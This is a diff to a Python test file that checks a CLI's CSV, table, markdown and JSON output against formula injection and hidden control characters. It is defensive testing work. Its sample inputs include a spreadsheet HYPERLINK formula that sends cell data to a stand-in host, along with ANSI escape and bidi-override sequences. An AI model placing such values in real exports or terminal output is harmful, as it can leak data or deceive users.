@@ -17,6 +17,7 @@ from hypothesis import strategies as st
 
 from timeline.cli.output import FORMATS, Format, plain, shown, write_frame
 from timeline.model.problems import ProblemError, UsageProblem
+from timeline.model.visible import no_formula, visible
 
 EVENTS = pl.DataFrame(
     {
@@ -142,16 +143,69 @@ def test_json_gives_back_what_was_written(rows: list[dict[str, Any]]) -> None:
 
 
 @given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\r\0"), min_size=1, max_size=20), max_size=5))
-def test_csv_gives_back_what_was_written(values: list[str]) -> None:
+def test_csv_gives_back_what_was_written_but_for_the_apostrophe_before_a_formula(values: list[str]) -> None:
     rows = list(csv.reader(io.StringIO(written(pl.DataFrame({"x": values}, schema={"x": pl.String}), "csv"))))
-    assert rows == [["x"], *([value] for value in values)]
+    assert [row[0].removeprefix("'") if no_formula(row[0]) != row[0] else row[0] for row in rows[1:]] == values
+    assert all(not row[0].lstrip().startswith(tuple("=+-@")) for row in rows)
+
+
+FORMULAS = [
+    ("=1+1", "'=1+1"),
+    ('=HYPERLINK("http://x.example?"&A1)', '\'=HYPERLINK("http://x.example?"&A1)'),
+    ("+1", "'+1"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("  =1", "'  =1"),
+    ("\t=1", "'\t=1"),
+    ("＝1", "'＝1"),
+    ("'=1", "''=1"),
+    ("15 = 15", "15 = 15"),
+    ("'quoted'", "'quoted'"),
+]
+
+
+@pytest.mark.parametrize(("value", "cell"), FORMULAS)
+def test_no_cell_of_csv_is_run_by_a_spreadsheet(value: str, cell: str) -> None:
+    frame = pl.DataFrame({value: [value], "list": [["KR", value]], "number": [-5]})
+    (heads, cells) = csv.reader(io.StringIO(written(frame, "csv")))
+    assert (heads[0], cells[0], cells[1], cells[2]) == (cell, cell, f"KR;{cell}", "-5")
+
+
+HIDING = "pay\u202eyap \u200bzero \x1b[31mred\x1b]0;title\x07 \x9b2J \r over \u2066x\u2069 \U000e0041"
+
+
+@pytest.mark.parametrize("format", ["table", "markdown"])
+def test_what_hides_or_steers_is_spelled_out(format: Format) -> None:
+    text = written(pl.DataFrame({"x": [HIDING], HIDING: [["KR"]]}), format)
+    told = ["202E", "200B", "001B", "0007", "009B", "000D", "2066", "2069", "E0041"]
+    assert all(text.count(f"⟨U+{code}⟩") >= 2 for code in told)
+    assert not set(text) & (set(HIDING) - set("payxzerodtilv[31m];2J0 "))
+
+
+@pytest.mark.parametrize("format", ["json", "jsonl"])
+def test_json_is_the_same_and_steers_nothing(format: Format) -> None:
+    text = written(pl.DataFrame({"x": [HIDING]}), format)
+    read = json.loads(text)
+    assert (read[0] if format == "json" else read) == {"x": HIDING}
+    assert text.replace("\n", "").isprintable()
+
+
+def test_csv_is_exact_in_a_file_and_spelled_out_on_a_terminal() -> None:
+    frame = pl.DataFrame({"x": ["a\x1bb"]})
+    assert written(frame, "csv") == "x\na\x1bb\n"
+    assert written(frame, "csv", Terminal()) == "x\na⟨U+001B⟩b\n"
+
+
+@pytest.mark.parametrize("kept", ["한국 👨‍👩‍👧", "نمی‌خواهم", "क्‍ष", "Zürich – “15 %”\t\n"])
+def test_ordinary_spelling_is_left_alone(kept: str) -> None:
+    assert visible(kept) == kept
 
 
 @given(st.lists(st.text(max_size=60), min_size=1, max_size=4))
 def test_a_table_in_a_pipe_never_cuts_a_value(values: list[str]) -> None:
     text = written(pl.DataFrame({"x": values, "y": [1] * len(values)}), "table")
     for value in values:
-        for line in value.split("\n"):
+        for line in visible(value).split("\n"):
             words = "".join(c for c in line if c.isalnum())
             assert words in "".join(c for c in text if c.isalnum())
     assert "…" not in text or any("…" in value for value in values)
